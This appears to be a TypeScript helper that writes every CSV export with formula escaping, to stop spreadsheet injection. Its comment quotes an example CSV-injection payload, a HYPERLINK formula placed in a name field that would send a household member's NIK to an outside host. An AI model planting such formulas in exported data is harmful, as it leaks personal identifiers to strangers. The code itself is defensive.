import { stringify } from 'csv-stringify/sync';

export type CsvCell = string | number | bigint | boolean | null | undefined;

/**
 * Every CSV the service writes, written one way. `escape_formulas` puts an apostrophe before a
 * text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or the full-width
 * `＝＋－＠`), which a spreadsheet would otherwise run as a formula: a household member named
 * `=HYPERLINK("http://…?"&D2)` would send the NIK in D2 to a stranger. The apostrophe shows the
 * text as typed. Numbers are left alone — a negative number is data — so a figure that must stay
 * a number is passed as a number, never as text: the text `-5` (typed by someone) gets its
 * apostrophe.
 */
export function toCsv(rows: CsvCell[][]): string;
export function toCsv<T extends object>(
  rows: T[],
  columns: { key: keyof T & string; header: string }[],
): string;
export function toCsv(
  rows: CsvCell[][] | object[],
  columns?: { key: string; header: string }[],
): string {
  return stringify(rows, {
    escape_formulas: true,
    ...(columns ? { header: true, columns } : {}),
  });
}
